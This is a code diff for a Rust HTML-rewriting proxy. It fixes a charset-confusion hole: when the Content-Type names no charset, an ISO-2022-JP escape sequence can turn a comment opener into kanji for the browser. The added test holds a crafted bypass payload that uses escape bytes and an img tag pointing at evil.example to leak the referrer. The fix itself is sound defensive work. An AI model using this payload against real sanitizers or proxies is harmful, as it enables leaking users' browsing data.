@@ -56,15 +56,26 @@ impl Coding {
     }
 }
 
-/// The character set a `text/html` response declares, if it can be rewritten.
-pub fn charset(headers: &HeaderMap) -> Option<&'static encoding_rs::Encoding> {
+/// The `charset` a response's `Content-Type` names, if any.
+fn charset_label(headers: &HeaderMap) -> Option<&str> {
     let content_type = headers.get(header::CONTENT_TYPE)?.to_str().ok()?;
-    let label = content_type
+    content_type
         .split(';')
         .skip(1)
         .filter_map(|p| p.split_once('='))
         .find(|(k, _)| k.trim().eq_ignore_ascii_case("charset"))
-        .map(|(_, v)| v.trim().trim_matches('"'));
+        .map(|(_, v)| v.trim().trim_matches('"'))
+}
+
+/// Whether the browser, not the response's headers, picks the page's
+/// character set (from a `<meta>`, or by guessing from its bytes).
+pub fn browser_picks_charset(headers: &HeaderMap) -> bool {
+    charset_label(headers).is_none()
+}
+
+/// The character set a `text/html` response declares, if it can be rewritten.
+pub fn charset(headers: &HeaderMap) -> Option<&'static encoding_rs::Encoding> {
+    let label = charset_label(headers);
     match label {
         // Without a label, lol_html starts as UTF-8 and follows <meta charset>.
         None => Some(encoding_rs::UTF_8),
@@ -77,16 +88,20 @@ pub fn charset(headers: &HeaderMap) -> Option<&'static encoding_rs::Encoding> {
 
 /// `body` (encoded with `coding`) rewritten for `ticket`, decoded, as a new
 /// streaming body. Callers drop `Content-Length` and `Content-Encoding`.
+/// `browser_picks` (see [`browser_picks_charset`]): the page must not hold
+/// what could make the browser read it as ISO-2022-JP.
 pub fn rewrite(
     body: ProxyBody,
     coding: Coding,
     encoding: &'static encoding_rs::Encoding,
+    browser_picks: bool,
     origin: Origin,
     ticket: Ticket,
 ) -> ProxyBody {
     let (tx, mut rx) = mpsc::channel::<Result<Frame<Bytes>, BoxError>>(4);
     tokio::spawn(async move {
-        if let Err(error) = pump(body, coding, encoding, origin, ticket, &tx).await {
+        let pumped = pump(body, coding, encoding, browser_picks, origin, ticket, &tx).await;
+        if let Err(error) = pumped {
             tracing::debug!(%error, "rewriting a page failed");
             let _ = tx.send(Err(error)).await;
         }
@@ -99,6 +114,7 @@ async fn pump(
     body: ProxyBody,
     coding: Coding,
     encoding: &'static encoding_rs::Encoding,
+    browser_picks: bool,
     origin: Origin,
     ticket: Ticket,
     tx: &mpsc::Sender<Result<Frame<Bytes>, BoxError>>,
@@ -141,6 +157,15 @@ async fn pump(
             break;
         }
         let mut data = &buf[..n];
+        // ISO-2022-JP, which a page without a charset in its Content-Type
+        // may declare in a <meta> (or a browser may guess), reads ASCII
+        // until an escape sequence switches it to two-byte characters: then
+        // a `<!--` the rewriter reads is two kanji to the browser, and what
+        // it hides is markup (review 17). Without an ESC byte both read the
+        // same markup; with one, nothing more is sent (fails closed).
+        if browser_picks && data.contains(&0x1B) {
+            return Err("an escape byte in a page whose charset the browser picks (URL mode ends the page there)".into());
+        }
         if head.len() < 2 {
             let take = (2 - head.len()).min(data.len());
             head.extend_from_slice(&data[..take]);
@@ -242,6 +267,7 @@ mod tests {
                 crate::body::full(encoded),
                 coding,
                 encoding_rs::UTF_8,
+                false,
                 origin,
                 ticket,
             );
@@ -258,7 +284,54 @@ mod tests {
     async fn a_corrupt_compressed_body_ends_in_an_error_not_a_panic() {
         let (origin, ticket) = ticket();
         let body = crate::body::full(&b"not gzip at all"[..]);
-        let out = rewrite(body, Coding::Gzip, encoding_rs::UTF_8, origin, ticket);
+        let out = rewrite(
+            body,
+            Coding::Gzip,
+            encoding_rs::UTF_8,
+            false,
+            origin,
+            ticket,
+        );
         assert!(out.collect().await.is_err());
+    }
+
+    /// Review 17: with no charset in the Content-Type, a `<meta
+    /// charset=iso-2022-jp>` has the browser read `ESC $ B <!-- ESC ( B`
+    /// as two kanji, and what the rewriter reads as a comment is markup.
+    #[tokio::test]
+    async fn an_escape_byte_ends_a_page_whose_charset_the_browser_picks() {
+        let page = "<p>before</p><meta charset=iso-2022-jp>\x1b$B<!--\x1b(B\
+                    <img referrerpolicy=unsafe-url src=http://evil.example/>-->";
+        for (browser_picks, cut) in [(true, true), (false, false)] {
+            let (origin, ticket) = ticket();
+            let body = crate::body::full(page.to_owned());
+            let out = rewrite(
+                body,
+                Coding::Identity,
+                encoding_rs::UTF_8,
+                browser_picks,
+                origin,
+                ticket,
+            );
+            let mut out = std::pin::pin!(out);
+            let mut got = Vec::new();
+            let mut failed = false;
+            while let Some(frame) = out.frame().await {
+                match frame {
+                    Ok(frame) => got.extend_from_slice(frame.data_ref().map_or(&[][..], |d| d)),
+                    Err(_) => failed = true,
+                }
+            }
+            let got = String::from_utf8_lossy(&got);
+            assert_eq!(failed, cut, "{got}");
+            assert_eq!(got.contains("evil"), !cut, "{got}");
+        }
+        let headers = |ct: &'static str| {
+            let mut h = HeaderMap::new();
+            h.insert(header::CONTENT_TYPE, HeaderValue::from_static(ct));
+            h
+        };
+        assert!(browser_picks_charset(&headers("text/html")));
+        assert!(!browser_picks_charset(&headers("text/html; charset=utf-8")));
     }
 }
